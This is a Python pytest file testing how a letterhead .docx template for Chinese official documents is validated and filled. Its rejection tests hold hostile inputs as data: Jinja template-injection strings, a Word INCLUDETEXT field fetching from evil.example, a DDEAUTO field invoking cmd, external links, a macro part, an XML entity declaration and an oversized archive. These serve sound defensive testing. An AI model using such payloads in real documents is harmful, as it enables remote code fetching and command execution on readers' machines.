"""The office's own template: what may be one, and how a document stands in it."""

from __future__ import annotations

import io
import zipfile
from collections import Counter
from collections.abc import Callable
from dataclasses import fields
from datetime import date
from functools import cache

import docx
import pytest
from docx.document import Document
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from docx.shared import Pt
from jinja2.exceptions import SecurityError

from ledger.errors import Refused
from ledger.papers.paper_template import PLACES, PaperTemplate
from ledger.papers.particulars import Particulars, ParticularsWithin
from reports.official import OfficialPaper
from reports.official.template_check import check_template
from reports.official.template_sample import sample_template
from tests.unit.reports.open_xml import ids, violations

DAY = date(2021, 10, 26)
AROUND = Particulars(
    "红头", "榕政办〔2021〕53号", "张某", "各县（市）区", "市委网信办", "市政府办公厅", "主动公开", seal=True
)
OWN_PLACES = "{{文号}}　签发人：{{ 签发人 }}"


def saved(document: Document) -> bytes:
    made = io.BytesIO()
    document.save(made)
    return made.getvalue()


def of_the_office(*more: Callable[[Document], object]) -> bytes:
    """A letterhead as an office has one: its own page, a head that stands in a table, a foot of its own, a name in pieces."""
    made = docx.Document()
    made.settings.element.find(qn("w:zoom")).set(qn("w:percent"), "100")
    section = made.sections[0]
    section.left_margin = section.right_margin = Pt(100)
    section.header.add_table(1, 1, Pt(300)).cell(0, 0).text = "某某市人民政府办公厅"
    section.footer.paragraphs[0].text = "地址：某路1号"
    split = made.add_paragraph("{{ 标")
    split.add_run("题 }}").bold = True
    made.add_paragraph(OWN_PLACES)
    made.add_paragraph("{{ 正文 }}")
    made.add_paragraph("抄送：{{ 抄送 }}")
    for change in more:
        change(made)
    return saved(made)


@cache
def template(sample: bool = False) -> PaperTemplate:
    content = sample_template("红头文件") if sample else of_the_office()
    return PaperTemplate(content, check_template(content))


def within(of: PaperTemplate, around: Particulars = AROUND) -> ParticularsWithin:
    return ParticularsWithin(**{f.name: getattr(around, f.name) for f in fields(Particulars)}, template=of)


def written(around: Particulars, *, title: str = "关于情况的通报") -> bytes:
    paper = OfficialPaper(title, "演示数据", around, note="（截至今天）")
    paper.level_one("一、情况")
    paper.text("已公开。")
    paper.table(["甲"], [["乙"]])
    paper.signed("市政府办公厅", DAY)
    paper.attachment(1, "表", landscape=True)
    paper.attachment(2, "单")
    paper.text("附件的内容。")
    return paper.close(DAY)


def texts(content: bytes) -> list[str]:
    return [p.text for p in docx.Document(io.BytesIO(content)).paragraphs if p.text.strip()]


def test_each_place_is_filled_and_nothing_stands_twice() -> None:
    shown = texts(written(within(template())))
    assert shown[:3] == ["关于情况的通报", "榕政办〔2021〕53号　签发人：张某", "（截至今天）"]
    assert (
        shown.index("各县（市）区：") < shown.index("一、情况") < shown.index("附件1") < shown.index("抄送：市委网信办")
    )
    assert shown[-1] == "抄送：市委网信办"
    assert [line for line in shown if "红头" in line or "印发" in line or "{{" in line] == []


def test_the_sample_gives_what_there_is_without_a_template() -> None:
    plain, own = texts(written(AROUND)), texts(written(within(template(sample=True))))
    assert template(sample=True).places == ("正文", "标题", "说明", "文号", "主送")
    assert sorted(own) == sorted(
        ["红头文件" if line == "红头" else line.replace("\t签发人：张某", "") for line in plain] + ["\t签发人：张某"]
    )


@pytest.mark.parametrize("sample", [True, False])
def test_the_document_is_whole(sample: bool) -> None:
    content = written(within(template(sample)))
    assert content == written(within(template(sample)))
    assert violations(content) == []
    assert max(Counter(ids(content)).values()) == 1


def test_the_page_is_the_templates_and_the_letters_of_the_text_are_not() -> None:
    made = docx.Document(io.BytesIO(written(within(template()))))
    first, lying, upright = made.sections
    assert {s.left_margin for s in (first, upright)} == {Pt(100)}
    assert lying.page_width > lying.page_height
    for section in (first, upright):
        assert section.header.paragraphs[0].text == "【演示数据】"
        assert section.header.tables[0].cell(0, 0).text == "某某市人民政府办公厅"
        assert section.footer.paragraphs[0].text == "地址：某路1号"
    assert "地址" not in lying.footer.paragraphs[0].text
    (body,) = [p for p in made.paragraphs if p.text == "已公开。"]
    assert body.style.name == "公文正文"
    assert body.style.font.size == Pt(16)
    assert body.style.element.rPr.rFonts.get(qn("w:eastAsia")) == "仿宋_GB2312"
    assert made.styles["Normal"].font.size != Pt(16)


def test_a_table_at_the_end_is_not_one_with_the_templates() -> None:
    def foot_in_a_table(document: Document) -> None:
        document._body._element.remove(document.paragraphs[-1]._p)
        document.add_table(1, 1).cell(0, 0).text = "抄送：{{ 抄送 }}"

    content = of_the_office(foot_in_a_table)
    paper = OfficialPaper("标题", "", within(PaperTemplate(content, check_template(content))))
    paper.table(["甲"], [["乙"]])
    made = docx.Document(io.BytesIO(paper.close(DAY)))
    kinds = [child.tag.rpartition("}")[2] for child in made.element.body]
    assert kinds[-4:] == ["tbl", "p", "tbl", "sectPr"]
    assert "{{" not in made.element.xml


def test_a_style_of_that_name_is_the_offices() -> None:
    def restyle(document: Document) -> None:
        document.styles.add_style("公文正文", 1).font.size = Pt(18)

    content = of_the_office(restyle)
    made = docx.Document(io.BytesIO(written(within(PaperTemplate(content, check_template(content))))))
    assert next(p for p in made.paragraphs if p.text == "已公开。").style.font.size == Pt(18)


def test_what_somebody_typed_is_a_text_in_the_template_too() -> None:
    typed = '<w:b/> & {{ 文号 }} {% for x in y %} "'
    around = within(template(), Particulars(number=typed, copies="{{ 正文 }}"))
    shown = texts(written(around, title="甲<&>{{ 正文 }}"))
    assert shown[0] == "甲<&>{{ 正文 }}"
    assert shown[1] == f"{typed}　签发人："
    assert shown[-1] == "抄送：{{ 正文 }}"


def added(text: str) -> Callable[[Document], object]:
    return lambda document: document.add_paragraph(text)


def field(instruction: str) -> Callable[[Document], object]:
    def add(document: Document) -> None:
        words = OxmlElement("w:instrText")
        words.text = instruction
        document.add_paragraph().add_run()._r.append(words)

    return add


def linked(kind: str) -> Callable[[Document], object]:
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    return lambda document: document.part.relate_to("http://evil.example/a", base + kind, is_external=True)


def in_a_table(document: Document) -> None:
    mark = next(p for p in document.paragraphs if "正文" in p.text)
    mark._p.getparent().remove(mark._p)
    document.add_table(1, 1).cell(0, 0).text = "{{ 正文 }}"


@pytest.mark.parametrize(
    ("change", "told"),
    [
        (added("{{ 正文 }}"), "只能有一处 {{ 正文 }}"),
        (added("{{ 密码 }}"), "“{{ 密码 }}”不认识：只能用正文、标题"),
        (added("{% for x in y %}"), "“{% for x in y %}”看不懂"),
        (added("{{ 标题.__class__ }}"), "看不懂：双花括号里只能写一个位置的名字"),
        (added("{{ ''.__class__.__mro__ }}"), "看不懂"),
        (added("{{ 标题|safe }}"), "看不懂"),
        (added("{{r 标题 }}"), "看不懂"),
        (added("{# 注 #}"), "看不懂"),
        (field(' INCLUDETEXT "http://evil.example/a" '), "里面有域“INCLUDETEXT”"),
        (field(" DDEAUTO c:\\\\windows\\\\cmd "), "里面有域“DDEAUTO”"),
        (linked("attachedTemplate"), "附着在别处的模板上"),
        (linked("hyperlink"), "取消超链接"),
        (linked("image"), "要从别处取来的内容"),
        (in_a_table, "要自己占一段"),
        (lambda d: d.add_section(), "只能有一节"),
    ],
)
def test_what_is_wrong_with_a_template_is_told(change: Callable[[Document], object], told: str) -> None:
    with pytest.raises(Refused) as refused:
        check_template(of_the_office(change))
    assert told in str(refused.value)
    assert "没有更换" in str(refused.value)


def packed(change: Callable[[str, bytes], bytes], **more: bytes) -> bytes:
    made = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(of_the_office())) as files,
        zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as written,
    ):
        for name in files.namelist():
            written.writestr(name, change(name, files.read(name)))
        for name, content in more.items():
            written.writestr(name, content)
    return made.getvalue()


@pytest.mark.parametrize(
    ("content", "told"),
    [
        (b"PK\x03\x04 nothing", "不是完整的 .docx"),
        (packed(lambda _, part: part, **{"word/vbaProject.bin": b"x"}), "里面有宏"),
        (packed(lambda _, part: part, **{"word/embeddings/a.bin": b"x"}), "里面有嵌入的对象"),
        (
            packed(
                lambda name, part: (
                    part.replace(b"document.main", b"document.macroEnabled.main") if "Types" in name else part
                )
            ),
            "里面有宏",
        ),
        (
            packed(lambda name, part: b'<!DOCTYPE a [<!ENTITY b "c">]>' + part if name == "word/styles.xml" else part),
            "内部结构不正常",
        ),
        (packed(lambda _, part: part, **{"word/a.xml": b" " * (17 << 20)}), "展开后太大"),
    ],
)
def test_what_is_no_plain_document_is_no_template(content: bytes, told: str) -> None:
    with pytest.raises(Refused, match="没有更换") as refused:
        check_template(content)
    assert told in str(refused.value)


def test_the_sandbox_refuses_what_the_check_did_not_see() -> None:
    """In a part that nobody reads as text: docxtpl fills in the document's properties, too."""

    def title(document: Document) -> None:
        document.core_properties.title = "{{ ''.__class__ }}"

    content = of_the_office(title)
    with pytest.raises(Refused, match="没有更换"):
        check_template(content)
    with pytest.raises(SecurityError):
        written(within(PaperTemplate(content, tuple(PLACES))))


@pytest.mark.samples(2)
@pytest.mark.parametrize(
    ("size", "lines"),
    [
        (14, ["全市2021年政务公开工作要点落实情况汇总报告"]),
        (22, ["全市2021年政务公开", "工作要点落实情况汇总报告"]),
        (36, ["全市2021年", "政务公开工作要点", "落实情况汇总报告"]),
        (None, ["全市2021年政务公开工作要点落实情况汇总报告"]),
    ],
)
def test_a_title_is_broken_for_the_templates_own_letters(size: int | None, lines: list[str]) -> None:
    """Its page leaves 412 points; where no size is named, Word breaks the title itself."""

    def resize(document: Document) -> None:
        for run in document.paragraphs[0].runs:
            run.font.size = Pt(size) if size else None

    content = of_the_office(resize)
    around = within(PaperTemplate(content, check_template(content)))
    title = docx.Document(io.BytesIO(written(around, title="".join(lines)))).paragraphs
    shown = next(p.text for p in title if p.text.startswith("全市"))
    assert shown.split("\n") == lines
